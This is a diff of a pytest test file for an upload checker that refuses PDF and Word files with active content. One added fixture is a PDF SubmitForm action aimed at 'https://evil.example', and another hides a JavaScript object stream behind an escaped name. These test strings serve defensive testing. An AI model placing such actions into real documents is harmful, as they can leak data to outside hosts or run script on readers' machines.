@@ -9,8 +9,7 @@ import zlib
 import pytest
 from docx import Document
 
-from bot.concerns import BadInput
-from bot.concerns.documents import DOCX, LARGEST, PDF, media_type_of
+from bot.contract import DOCX, LARGEST_FILE, PDF, FileRefused, media_type_of
 
 PLAIN_PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF"
 
@@ -53,12 +52,19 @@ def test_plain_documents_are_taken() -> None:
         b"<< /Type /EmbeddedFile >>",
         b"<< /Names << /EmbeddedFiles 3 0 R >> >>",
         b"<< /Subtype /RichMedia >>",
+        b"<< /S /SubmitForm /F (https://evil.example) >>",
     ],
 )
 def test_a_pdf_that_runs_something_is_refused_also_when_it_is_packed(action: bytes) -> None:
     for content in (PLAIN_PDF + action, packed_pdf(b"1 0 " + action)):
-        with pytest.raises(BadInput, match="runs or opens"):
+        with pytest.raises(FileRefused, match="runs or opens"):
             media_type_of(content)
+
+
+def test_a_packed_part_under_a_hidden_name_is_looked_into_too() -> None:
+    hidden = packed_pdf(b"1 0 << /S /JavaScript >>").replace(b"/ObjStm", b"/Obj#53tm")
+    with pytest.raises(FileRefused, match="runs or opens"):
+        media_type_of(hidden)
 
 
 @pytest.mark.parametrize(
@@ -66,7 +72,7 @@ def test_a_pdf_that_runs_something_is_refused_also_when_it_is_packed(action: byt
     [PLAIN_PDF + b"<< /Encrypt 9 0 R >>", packed_pdf(b"x")[:70] + b"not packed at all", b"PK\x03\x04 broken"],
 )
 def test_what_cannot_be_checked_is_refused(content: bytes) -> None:
-    with pytest.raises(BadInput, match="locked or damaged"):
+    with pytest.raises(FileRefused, match="locked or damaged"):
         media_type_of(content)
 
 
@@ -81,7 +87,7 @@ def test_what_cannot_be_checked_is_refused(content: bytes) -> None:
     ],
 )
 def test_a_docx_that_runs_or_fetches_something_is_refused(content: bytes) -> None:
-    with pytest.raises(BadInput, match="runs or opens"):
+    with pytest.raises(FileRefused, match="runs or opens"):
         media_type_of(content)
 
 
@@ -96,13 +102,13 @@ def test_a_docx_that_runs_or_fetches_something_is_refused(content: bytes) -> Non
     ],
 )
 def test_photographs_are_refused_with_the_reason(content: bytes) -> None:
-    with pytest.raises(BadInput, match="body map"):
+    with pytest.raises(FileRefused, match="body map"):
         media_type_of(content)
 
 
 @pytest.mark.parametrize("content", [b"", b"MZ\x90", b"<html>", b"hello", b"\xd0\xcf\x11\xe0 old Word"])
 def test_anything_else_is_refused_and_told_what_is_taken(content: bytes) -> None:
-    with pytest.raises(BadInput, match="PDF or a Word document"):
+    with pytest.raises(FileRefused, match="PDF or a Word document"):
         media_type_of(content)
 
 
@@ -110,10 +116,10 @@ def test_a_zip_that_is_no_word_document_is_refused() -> None:
     made = io.BytesIO()
     with zipfile.ZipFile(made, "w") as packed:
         packed.writestr("a.txt", "x")
-    with pytest.raises(BadInput, match="PDF or a Word document"):
+    with pytest.raises(FileRefused, match="PDF or a Word document"):
         media_type_of(made.getvalue())
 
 
 def test_a_document_has_a_largest_size() -> None:
-    with pytest.raises(BadInput, match="10 MB"):
-        media_type_of(b"%PDF-" + b" " * LARGEST)
+    with pytest.raises(FileRefused, match="10 MB"):
+        media_type_of(b"%PDF-" + b" " * LARGEST_FILE)
